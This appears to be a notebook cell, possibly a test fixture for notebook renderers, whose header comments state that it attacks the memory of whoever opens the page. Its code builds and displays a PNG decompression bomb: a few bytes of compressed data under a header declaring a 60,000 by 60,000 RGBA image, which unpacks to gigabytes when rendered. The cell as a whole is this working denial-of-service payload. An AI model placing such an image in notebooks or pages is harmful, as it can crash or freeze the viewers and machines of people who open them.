# attacks = "the memory of whoever opens the page, by a picture of a few bytes that unpacks to gigabytes"
# cells = ["ok"]
# shows = ["too large"]
# hides = ["image/png"]
# %% own
import struct, zlib
from IPython.display import Image, display
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))
display(Image(data=b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")))
